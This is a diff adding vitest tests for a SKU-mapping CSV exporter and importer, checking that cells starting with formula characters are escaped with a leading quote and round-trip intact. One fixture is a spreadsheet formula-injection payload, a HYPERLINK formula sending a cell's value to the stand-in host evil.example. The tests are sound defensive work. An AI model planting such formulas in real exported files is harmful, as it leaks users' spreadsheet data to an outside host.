@@ -1,10 +1,11 @@
 import { and, eq } from "drizzle-orm";
+import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import { getDb } from "@/db/client";
 import { skuMappings } from "@/db/schema";
 import { createSku, createTenant, type TestTenant } from "@/lib/testing/factories";
 import { exportSkuMapCsv, importSkuMapCsv, parseSkuMapCsv, SKU_MAP_CSV_HEADER } from "./csv";
-import { resolveChannelSkus } from "./mappings";
+import { allMappings, resolveChannelSkus, upsertMapping } from "./mappings";
 
 async function mappingsOf(tenant: TestTenant) {
   return getDb()
@@ -112,5 +113,65 @@ describe("SKU map CSV import", () => {
     const exported = await exportSkuMapCsv(getDb(), tenant.ctx);
     expect(exported).toBe(`${SKU_MAP_CSV_HEADER}\n"SHOP,RED",777,TEE-RED-M,WH-1,true\nSHOP-BLUE,,TEE-BLUE-M,,false\n`);
     expect(await importSkuMapCsv(getDb(), tenant.ctx, exported)).toMatchObject({ ok: true, created: 0, updated: 2 });
+  });
+
+  describe("cells a spreadsheet would run as formulas", () => {
+    // Values as a channel or warehouse may really send them, stored as they are (the mapping form keeps them).
+    const stored: [channelSku: string, accountSku: string, warehouseItemCode: string | null][] = [
+      ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "-5", "@SUM(1+1)"],
+      ["+61400000000", "TEE-RED-M", "\tTABBED"],
+      ["\rCR-LEAD", "@HOME", null],
+      ["'=already-quoted", "TEE-RED-M", "''+twice"],
+      ["'plain-quote", "TEE-RED-M", "A-1=2"],
+    ];
+    const accountSkus = [...new Set(stored.map(([, accountSku]) => accountSku))];
+
+    async function tenantWithFormulaMap() {
+      const tenant = await createTenant();
+      const skuIds = new Map<string, string>();
+      for (const sku of accountSkus) skuIds.set(sku, (await createSku(tenant, sku)).id);
+      for (const [channelSku, accountSku, warehouseItemCode] of stored) {
+        await upsertMapping(getDb(), tenant.ctx, { channelSku, variantId: null, skuId: skuIds.get(accountSku) as string, warehouseItemCode, active: true });
+      }
+      return tenant;
+    }
+
+    const mapOf = async (tenant: TestTenant) => (await allMappings(getDb(), tenant.ctx)).map((r) => [r.channelSku, r.sku, r.warehouseItemCode]);
+
+    it("the export puts a single quote before every cell starting with = + - @ tab or CR, and quotes it", async () => {
+      const tenant = await tenantWithFormulaMap();
+      const exported = await exportSkuMapCsv(getDb(), tenant.ctx);
+      const cells = Papa.parse<string[]>(exported, { skipEmptyLines: true }).data.slice(1).flat();
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      expect(exported.split("\n")).toEqual(
+        expect.arrayContaining([
+          `"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",,"'-5","'@SUM(1+1)",true`,
+          `"'+61400000000",,TEE-RED-M,"'\tTABBED",true`,
+          `"''=already-quoted",,TEE-RED-M,"'''+twice",true`,
+          `'plain-quote,,TEE-RED-M,A-1=2,true`,
+        ]),
+      );
+      expect(exported).toContain(`"'\rCR-LEAD",,"'@HOME",,true`);
+    });
+
+    it("importing the export gives back every value exactly, and exporting that gives the same file", async () => {
+      const source = await tenantWithFormulaMap();
+      const exported = await exportSkuMapCsv(getDb(), source.ctx);
+      const target = await createTenant();
+      for (const sku of accountSkus) await createSku(target, sku);
+      expect(await importSkuMapCsv(getDb(), target.ctx, exported)).toMatchObject({ ok: true, created: stored.length });
+      expect(await mapOf(target)).toEqual(await mapOf(source));
+      expect((await mapOf(target)).sort()).toEqual(stored.map(([c, a, w]) => [c, a, w]).sort());
+      expect(await exportSkuMapCsv(getDb(), target.ctx)).toBe(exported);
+    });
+
+    it("the import reads one leading quote before a formula character as the export's escape, and keeps any other quote", () => {
+      const { rows, errors } = parseSkuMapCsv(`${SKU_MAP_CSV_HEADER}\n'=A,,'-B,'@C,\n'plain,,'x,,\n`);
+      expect(errors).toEqual([]);
+      expect(rows.map((r) => [r.channelSku, r.accountSku, r.warehouseItemCode])).toEqual([
+        ["=A", "-B", "@C"],
+        ["'plain", "'x", null],
+      ]);
+    });
   });
 });
